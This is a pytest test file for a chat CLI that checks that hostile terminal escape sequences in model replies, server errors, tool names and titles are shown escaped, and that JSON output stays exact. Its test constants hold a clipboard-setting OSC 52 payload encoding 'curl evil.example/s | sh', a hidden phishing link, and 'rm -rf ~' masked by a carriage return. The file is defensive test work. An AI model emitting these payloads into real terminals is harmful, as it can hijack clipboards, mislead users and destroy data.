"""Nothing untrusted drives the terminal: a model reply, a server's error, a
tool name, a chat title or an agent name with ESC[2J, OSC 52 (clipboard),
OSC 8 (hidden link), C1 CSI or a carriage return is printed with those
characters made visible, and ``--json`` output stays valid JSON with the
exact same values. The model and the failing server are a real HTTP server
in the test (FaultServer, OpenAI's SSE format)."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.commands import output
from app.commands.terminal_text import json_safe, json_text, terminal_text
from app.domain import Message, TextDelta
from tests.providers.fault_server import FaultServer, json_reply, openai_chunk, sse, status

CLEAR = "\x1b[2J\x1b[H"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvcyB8IHNo\x07"        # sets the clipboard
OSC8 = "\x1b]8;;https://evil.example/login\x1b\\Session expired\x1b]8;;\x1b\\"
C1_CSI = "\x9b2J"
HIDE = "harmless\rrm -rf ~ "                                   # \r overwrites the line
BIDI = "\u202eevil\u202c"
HOSTILE = CLEAR + OSC52 + OSC8 + C1_CSI + HIDE + BIDI
#: Characters a terminal acts on (everything but newline and tab in C0, DEL, C1, bidi).
ACTING = ({chr(c) for c in range(0x20)} - {"\n", "\t"} | {"\x7f"}
          | {chr(c) for c in range(0x80, 0xA0)}
          | {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))})


def acting(text: str) -> set[str]:
    return set(text) & ACTING


# -- the one sanitising function -------------------------------------------------------

def test_terminal_text_makes_every_sequence_visible():
    shown = terminal_text(HOSTILE + "\nline two\tand a tab")
    assert acting(shown) == set()
    assert shown.startswith("\\x1b[2J\\x1b[H\\x1b]52;c;")
    assert "\\x9b2J" in shown and "harmless\\x0drm -rf ~" in shown and "\\u202eevil" in shown
    assert shown.endswith("\nline two\tand a tab")                 # newline and tab kept
    assert terminal_text("a\nb", newlines=False) == "a\\nb"


@given(st.text())
def test_terminal_text_leaves_nothing_a_terminal_acts_on(text):
    shown = terminal_text(text)
    assert acting(shown) == set()
    assert terminal_text(shown) == shown                           # escaping is stable
    if not acting(text):
        assert shown == text                                       # plain text unchanged


@given(st.recursive(st.none() | st.booleans() | st.integers() | st.text(),
                    lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_text_is_valid_json_with_the_same_value_and_printable(value):
    document = json_text(value, indent=2)
    assert json.loads(document) == value
    assert acting(document) - {"\n"} == set() and "\u2028" not in document


def test_pydantic_json_made_safe_keeps_its_value():
    dumped = TextDelta(text=HOSTILE + "\x7f\u2028").model_dump_json()
    assert "\x9b" in dumped                                        # pydantic leaves C1 raw
    safe = json_safe(dumped)
    assert acting(safe) == set()
    assert json.loads(safe)["text"] == HOSTILE + "\x7f\u2028"


def test_search_highlighting_survives_and_hostile_text_does_not(capsys):
    output.say_marked("x \x02hit\x1b]52;c;AA\x07\x03 y", ("\x02", "\x03"), ("\x1b[1;7m", "\x1b[0m"))
    line = capsys.readouterr().out
    assert line == "x \x1b[1;7mhit\\x1b]52;c;AA\\x07\x1b[0m y\n"


# -- agentdesk chat against a hostile server -----------------------------------------

@pytest.fixture
def server() -> Iterator[FaultServer]:
    with FaultServer() as created:
        yield created


@pytest.fixture
def hostile_agent(cli, server) -> str:
    server.route("GET", "/v1/models", json_reply(
        {"object": "list", "data": [{"id": "m", "object": "model"}]}))
    assert cli("providers", "add", "evil", "--kind", "llamacpp",
               "--url", f"{server.url}/v1").code == 0
    assert cli("agents", "create", "--name", "victim", "--provider", "evil",
               "--model", "m").code == 0
    return "victim"


def reply_pieces() -> list[str]:
    """The hostile reply split inside its sequences (ESC in one piece, the rest in
    the next), as a stream may deliver it."""
    text = "Hello " + HOSTILE + " bye"
    return [text[i:i + 3] for i in range(0, len(text), 3)]


def stream_reply(server: FaultServer) -> None:
    events = [openai_chunk(role="assistant", content="")]
    events += [openai_chunk(piece) for piece in reply_pieces()]
    events.append(openai_chunk(finish_reason="stop"))
    server.route("POST", "/v1/chat/completions", sse(events))


def test_streamed_reply_reaches_the_terminal_escaped_and_is_stored_raw(
        cli, hostile_agent, server, open_store):
    stream_reply(server)
    result = cli("chat", "--agent", hostile_agent, "hi")
    assert result.code == 0, result.err
    assert acting(result.out) == set() and acting(result.err) == set()
    assert result.out == terminal_text("Hello " + HOSTILE + " bye") + "\n"
    store = open_store()
    [conversation] = store.conversations.list()
    reply = store.messages.all(conversation.id)[-1]
    assert reply.content == "Hello " + HOSTILE + " bye"             # the data is untouched


def test_streamed_reply_as_json_lines_is_valid_and_exact(cli, hostile_agent, server):
    stream_reply(server)
    result = cli("chat", "--agent", hostile_agent, "--json", "hi")
    assert result.code == 0, result.err
    assert acting(result.out) - {"\n"} == set()
    events = [json.loads(line) for line in result.out.splitlines()]
    text = "".join(e["text"] for e in events if e.get("type") == "token")
    assert text == "Hello " + HOSTILE + " bye"


def test_server_error_message_is_one_escaped_line(cli, hostile_agent, server):
    server.route("POST", "/v1/chat/completions", status(
        400, {"error": {"message": "bad request " + HOSTILE, "type": "invalid_request"}}))
    result = cli("chat", "--agent", hostile_agent, "hi")
    assert result.code == 1
    line = result.error_line
    assert acting(line) == set()
    assert "\\x1b]52;c;" in line and "\\x9b2J" in line              # shown, not obeyed


def test_hostile_tool_call_name_is_escaped_on_the_tool_lines(cli, hostile_agent, server):
    name = "calc" + OSC8 + CLEAR
    server.route("POST", "/v1/chat/completions", sse([
        openai_chunk(role="assistant", content=""),
        openai_chunk(tool_calls=[{"index": 0, "id": "c1", "type": "function",
                                  "function": {"name": name, "arguments": "{}"}}]),
        openai_chunk(finish_reason="tool_calls")]), sse([
        openai_chunk("done"), openai_chunk(finish_reason="stop")]))
    assert cli("agents", "edit", "victim", "--tool", "calculator").code == 0
    result = cli("chat", "--agent", hostile_agent, "hi")
    assert "[tool] calc\\x1b]8;;https://evil.example/login" in result.err
    assert acting(result.err) == set() and acting(result.out) == set()


# -- lists and details showing untrusted names and titles ---------------------------

def test_titles_and_names_in_lists_and_details_are_escaped(cli, hostile_agent, open_store):
    store = open_store()
    agent = store.agents.list()[0]
    store.agents.update(agent.model_copy(update={"name": "Agent " + CLEAR}))
    conversation = store.conversations.create(agent.id, "Title " + HOSTILE)
    store.messages.add(Message(conversation_id=conversation.id, role="user",
                               content="needle " + OSC52))
    for argv in (("conversations", "list"), ("conversations", "show", str(conversation.id)),
                 ("agents", "list"), ("agents", "show", "1"), ("search", "needle")):
        result = cli(*argv)
        assert result.code == 0, (argv, result.err)
        assert acting(result.out) == set(), argv
        assert "\\x1b[2J" in result.out, argv
    listed = cli("conversations", "list", "--json")
    assert json.loads(listed.out)[0]["title"] == "Title " + HOSTILE
    assert acting(listed.out) - {"\n"} == set()


def test_an_export_shown_on_a_terminal_is_escaped_and_piped_as_is(
        cli, hostile_agent, open_store, monkeypatch):
    store = open_store()
    conversation = store.conversations.create(store.agents.list()[0].id, "Export")
    store.messages.add(Message(conversation_id=conversation.id, role="assistant",
                               content="text " + HOSTILE))
    piped = cli("conversations", "export", str(conversation.id), "--format", "md")
    assert piped.code == 0 and OSC52 in piped.out            # a file's bytes, untouched
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    shown = cli("conversations", "export", str(conversation.id), "--format", "md")
    assert shown.code == 0 and acting(shown.out) == set()
    assert "\\x1b]52;c;" in shown.out
